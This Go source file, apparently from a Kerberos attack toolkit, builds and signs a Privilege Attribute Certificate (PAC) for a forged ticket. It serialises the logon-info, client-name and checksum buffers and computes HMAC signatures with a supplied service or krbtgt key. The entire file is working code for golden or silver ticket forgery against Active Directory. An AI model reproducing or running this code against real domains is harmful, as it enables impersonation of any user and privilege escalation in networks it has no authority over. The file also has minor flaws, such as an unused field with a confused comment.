package pacforge

import (
	"bytes"
	"encoding/binary"
	"time"
	"unicode/utf16"

	"github.com/sprout-sec/kerbeus-go/cipher"
)

// PAC buffer types (MS-PAC §2.3).
const (
	ulTypeLogonInfo        uint32 = 1
	ulTypeServerChecksum   uint32 = 6
	ulTypePrivSvrChecksum  uint32 = 7
	ulTypeClientNameTicket uint32 = 10
)

// ChecksumTypeForEtype maps a Kerberos etype to the PAC signature's
// declared checksum type (MS-PAC §2.8): RC4 signs with keyed HMAC-MD5,
// AES128/256 with HMAC-SHA1-96 truncated to 12 bytes.
func ChecksumTypeForEtype(etypeID int32) int32 {
	switch etypeID {
	case 23: // RC4_HMAC
		return -138 // KERB_CHECKSUM_HMAC_MD5
	case 17: // AES128_CTS_HMAC_SHA1_96
		return 15
	case 18: // AES256_CTS_HMAC_SHA1_96
		return 16
	default:
		return 15
	}
}

// infoBuffer is one entry of the PACTYPE header.
type infoBuffer struct {
	ULType       uint32
	Data         []byte
	checksumSlot bool // true for SERVER_CHECKSUM / PRIVSVR_CHECKSUM: offset of Data within Data itself that holds the signature bytes, filled in after signing
}

// Craft assembles a fully-signed PACTYPE for a forged ticket, following the
// fixed order spec §4.3 mandates: build the four buffers with zero-filled
// checksum placeholders, serialize, sign server-then-privsrv, overwrite the
// placeholders in place, and re-serialize.
func Craft(info LogonInfo, clientName string, logonTime time.Time, signingCipher *cipher.Cipher) ([]byte, error) {
	logonInfoBuf := wrapNDRTopLevel(info.marshal())
	clientInfoBuf := clientInfo(clientName, logonTime)

	checksumType := ChecksumTypeForEtype(signingCipher.EtypeID)
	serverChecksumSize := checksumByteLen(checksumType)

	serverChecksumBuf := signatureData(checksumType, make([]byte, serverChecksumSize))
	privsrvChecksumBuf := signatureData(checksumType, make([]byte, serverChecksumSize))

	buffers := []infoBuffer{
		{ULType: ulTypeLogonInfo, Data: logonInfoBuf},
		{ULType: ulTypeClientNameTicket, Data: clientInfoBuf},
		{ULType: ulTypeServerChecksum, Data: serverChecksumBuf},
		{ULType: ulTypePrivSvrChecksum, Data: privsrvChecksumBuf},
	}

	serialized := serializePAC(buffers)

	serverMAC, err := signingCipher.Checksum(cipher.KerbNonKerbCksumSalt, serialized)
	if err != nil {
		return nil, err
	}
	serverMAC = truncateOrPad(serverMAC, serverChecksumSize)

	privsrvMAC, err := signingCipher.Checksum(cipher.KerbNonKerbCksumSalt, serverMAC)
	if err != nil {
		return nil, err
	}
	privsrvMAC = truncateOrPad(privsrvMAC, serverChecksumSize)

	buffers[2].Data = signatureData(checksumType, serverMAC)
	buffers[3].Data = signatureData(checksumType, privsrvMAC)

	return serializePAC(buffers), nil
}

func truncateOrPad(mac []byte, n int) []byte {
	if len(mac) >= n {
		return mac[:n]
	}
	out := make([]byte, n)
	copy(out, mac)
	return out
}

func checksumByteLen(checksumType int32) int {
	switch checksumType {
	case -138:
		return 16
	default:
		return 12
	}
}

// signatureData encodes a PAC_SIGNATURE_DATA buffer: SignatureType then the
// raw signature bytes (not NDR-encoded; this buffer is a flat struct).
func signatureData(checksumType int32, sig []byte) []byte {
	buf := make([]byte, 4+len(sig))
	binary.LittleEndian.PutUint32(buf[:4], uint32(checksumType))
	copy(buf[4:], sig)
	return buf
}

// clientInfo encodes a PAC_CLIENT_INFO buffer: ClientId FILETIME, NameLength,
// then the UTF-16LE client name. Like PAC_SIGNATURE_DATA this buffer is
// flat, not NDR-encoded.
func clientInfo(name string, logonTime time.Time) []byte {
	units := utf16.Encode([]rune(name))
	buf := new(bytes.Buffer)
	binary.Write(buf, binary.LittleEndian, fileTimeFromTime(logonTime))
	binary.Write(buf, binary.LittleEndian, uint16(len(units)*2))
	for _, u := range units {
		binary.Write(buf, binary.LittleEndian, u)
	}
	return buf.Bytes()
}

// fileTimeFromTime converts a time.Time to a Windows FILETIME (100ns ticks
// since 1601-01-01).
func fileTimeFromTime(t time.Time) uint64 {
	const epochDiff = 116444736000000000
	return uint64(t.UnixNano()/100) + epochDiff
}

// wrapNDRTopLevel prepends the NDR "common type header" and private header
// MS-RPCE §2.2.6.1 requires around a top-level NDR-marshalled object inside
// a PAC buffer, then the top-level pointer referent and the struct bytes.
func wrapNDRTopLevel(structBytes []byte) []byte {
	buf := new(bytes.Buffer)
	// Common type header: Version=1, Endianness=little(0x10), header len=8, filler.
	buf.Write([]byte{0x01, 0x10, 0x00, 0x00})
	binary.Write(buf, binary.LittleEndian, uint32(0xcccccccc))
	// Private header: object buffer length, filler.
	binary.Write(buf, binary.LittleEndian, uint32(len(structBytes)))
	binary.Write(buf, binary.LittleEndian, uint32(0))
	// Top-level referent id for the KERB_VALIDATION_INFO pointer.
	binary.Write(buf, binary.LittleEndian, uint32(0x00020000))
	buf.Write(structBytes)
	return buf.Bytes()
}

// serializePAC lays out the PACTYPE header (buffer count, version, then one
// PAC_INFO_BUFFER descriptor per buffer) followed by the buffer payloads,
// each 8-byte aligned, matching MS-PAC §2.3's on-the-wire layout.
func serializePAC(buffers []infoBuffer) []byte {
	const headerEntrySize = 16 // ULType(4) + cbBufferSize(4) + Offset(8)
	headerLen := 8 + headerEntrySize*len(buffers)

	offsets := make([]uint64, len(buffers))
	cursor := uint64(headerLen)
	for i, b := range buffers {
		offsets[i] = align8(cursor)
		cursor = offsets[i] + uint64(len(b.Data))
	}

	out := new(bytes.Buffer)
	binary.Write(out, binary.LittleEndian, uint32(len(buffers)))
	binary.Write(out, binary.LittleEndian, uint32(0)) // Version

	for i, b := range buffers {
		binary.Write(out, binary.LittleEndian, b.ULType)
		binary.Write(out, binary.LittleEndian, uint32(len(b.Data)))
		binary.Write(out, binary.LittleEndian, offsets[i])
	}

	for i, b := range buffers {
		for uint64(out.Len()) < offsets[i] {
			out.WriteByte(0)
		}
		out.Write(b.Data)
	}

	return out.Bytes()
}

func align8(n uint64) uint64 {
	if n%8 == 0 {
		return n
	}
	return n + (8 - n%8)
}
